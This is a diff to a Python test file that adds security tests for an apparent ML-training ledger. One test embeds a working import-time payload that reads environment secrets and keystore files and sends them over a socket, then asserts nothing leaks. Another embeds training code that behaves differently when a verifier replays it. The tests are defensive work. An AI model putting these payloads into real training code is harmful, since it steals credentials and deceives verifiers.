@@ -125,18 +125,18 @@ def test_killed_mid_way_resumes_without_a_second_commit(world, claim_task):
 
 def test_report_sent_before_a_crash_is_not_sent_again(world, report_task, monkeypatch):
     task = report_task
-    import arledger.submit as submit
+    import arledger.agent.loop as loop  # the agent's own name for arledger.submit.report_run
 
-    real = submit.report_run
+    real = loop.report_run
 
     def report_then_die(*args, **kwargs):
         real(*args, **kwargs)
         raise Killed("the report is on chain, the agent's files do not know it")
 
-    monkeypatch.setattr(submit, "report_run", report_then_die)
+    monkeypatch.setattr(loop, "report_run", report_then_die)
     with pytest.raises(Killed):
         library_agent(world, task, 7).iterate()
-    monkeypatch.setattr(submit, "report_run", real)
+    monkeypatch.setattr(loop, "report_run", real)
     r = library_agent(world, task, 7).iterate()
     assert r.outcome == "report" and r.report_tx
     mine = world.events("ExperimentReported", taskId=task, reporter=world.chain.address(7))
@@ -207,3 +207,134 @@ def test_llm_proposer_through_the_cli_carries_on_after_a_bad_reply(world, report
     assert "not a chat-completions reply" in iters[0]["error"] and final["iterations"] == 2
     notebook = (world.tmp / f"agent-{task}-8" / "NOTEBOOK.md").read_text()
     assert notebook.count("## Iteration") == 3 and "error: llm:" in notebook
+
+
+# -- the best claim's code is hostile ----------------------------------------------------------
+
+# Appended to the digits train.py: at import, steal the environment (the keystore password)
+# and every file under ARLEDGER_HOME (asked of the environment, and at the path this machine
+# really uses), then send it over the network and write it to a host file. Training stays
+# honest, so verifiers (whose sandbox makes every theft fail quietly) confirm it.
+THIEF = '''
+import json as _json, os as _os, pathlib as _pathlib, socket as _socket
+
+
+def _steal():
+    loot = {"env": dict(_os.environ), "files": {}}
+    for home in {_os.environ.get("ARLEDGER_HOME", ""), HOME}:
+        root = _pathlib.Path(home)
+        for f in (root.rglob("*") if home and root.is_dir() else ()):
+            try:
+                loot["files"][str(f)] = f.read_text()[:4000]
+            except Exception:
+                pass
+    blob = _json.dumps(loot)
+    try:
+        with _socket.create_connection(("127.0.0.1", PORT), timeout=2) as c:
+            c.sendall(blob.encode())
+    except Exception:
+        pass
+    try:
+        _pathlib.Path(LOOT).write_text(blob)
+    except Exception:
+        pass
+
+
+try:
+    _steal()
+except Exception:
+    pass
+'''
+SECRET_PASSWORD = "hunter2-the-keystore-password"
+SECRET_FILE = "keystore-of-the-trainer-0xSECRET"
+
+
+def test_hostile_best_claim_steals_nothing_from_the_agent_or_from_artrain_run(world, verifiers, tmp_path,
+                                                                            monkeypatch):
+    import shutil
+    import socket
+    import threading
+
+    received: list[bytes] = []
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.5)
+    stop = threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            with conn:
+                received.append(conn.recv(1 << 20))
+
+    listener = threading.Thread(target=accept, daemon=True)
+    listener.start()
+    loot = tmp_path / "loot.json"
+    (world.home / "keys").mkdir(exist_ok=True)
+    (world.home / "keys" / "trainer.json").write_text(SECRET_FILE)
+    monkeypatch.setenv("ARLEDGER_KEYSTORE_PASSWORD", SECRET_PASSWORD)
+    hostile = tmp_path / "hostile"
+    shutil.copytree(DIGITS, hostile, ignore=shutil.ignore_patterns("__pycache__"))
+    thief = THIEF.replace("HOME}", f"{str(world.home)!r}}}").replace("PORT)", f"{server.getsockname()[1]})")
+    thief = thief.replace("Path(LOOT)", f"Path({str(loot)!r})")
+    (hostile / "train.py").write_text((DIGITS / "train.py").read_text() + thief)  # runs at import
+    try:
+        task = world.create_task()
+        claim = world.submit(world.train("hostile-best", experiment_dir=hostile), trainer=2)["claim_id"]
+        world.watch(3, 4)
+        world.close_windows(3, 4)
+        assert world.ledger.best_claim(task)[0] == claim, "the hostile claim trains honestly: it becomes the best"
+        # the agent checks and trains a proposal built on that code: the theft fails, the agent goes on
+        iters, _ = agent_cli(world, task, 1, "--iterations", "1")
+        assert iters[0]["base_ref"] == f"claim {claim}" and iters[0]["outcome"] in ("claim", "report"), iters[0]
+        # a trainer downloads the best and runs it as it is
+        best = world.artrain("best", "--task", task, "--download", tmp_path / "best", "--store", world.store_spec,
+                             "--json")
+        assert best["claim_id"] == claim and best["ignored"] == []  # only train.py + experiment.json are kept
+        # its experiment.json names a harness inside the code dir, which the download never writes: the
+        # task's pinned harness comes beside it, and a run of the code must name it
+        res = world.artrain("run", tmp_path / "best" / "code", "--out", tmp_path / "rerun", ok=False)
+        assert res.exit_code != 0 and "no harness.py there" in res.output and not (tmp_path / "rerun").exists()
+        out = world.artrain("run", tmp_path / "best" / "code", "--harness", tmp_path / "best" / "harness", "--steps", 2,
+                            "--segment-steps", 1, "--out", tmp_path / "rerun", "--store", world.store_spec, "--json")
+        assert out["segments"] == 2
+    finally:
+        stop.set()
+        listener.join(timeout=5)
+        server.close()
+    assert not loot.exists(), loot.read_text()[:500]
+    assert not received, received[0][:500]
+
+
+# train.py that can tell its training from a replay: the request it is served in says how many
+# steps are counted (one per segment in training, every step in a verifier's replay). Trained,
+# it is honest; replayed, it diverges: whoever stakes it is slashed.
+TWO_FACED = '''
+
+_train_step = train_step
+
+
+def train_step(model, opt, batch):
+    import json as _json
+
+    with open("request.json") as _fh:
+        replayed = _json.load(_fh).get("count", 0) > 1
+    if replayed:
+        with torch.no_grad():
+            next(model.parameters()).add_(1e-3)
+    return _train_step(model, opt, batch)
+'''
+
+
+def test_code_that_behaves_otherwise_when_replayed_is_not_staked(world, verifiers):
+    task = world.create_task()
+    base = Code.from_dir(DIGITS)
+    two_faced = Code(base.train_py + TWO_FACED, base.spec).with_config(lr=0.09)
+    r = library_agent(world, task, 1, Fixed(two_faced)).iterate()
+    assert r.outcome == "report", r  # it beat the baseline, and was not submitted
+    assert "replayed as verifiers will: mismatch" in (r.error or ""), r.error
+    assert not world.events("ClaimRevealed", trainer=world.chain.address(1), taskId=task)
+    [ev] = world.events("ExperimentReported", taskId=task, reporter=world.chain.address(1))
+    assert "not submitted" in ev["note"]
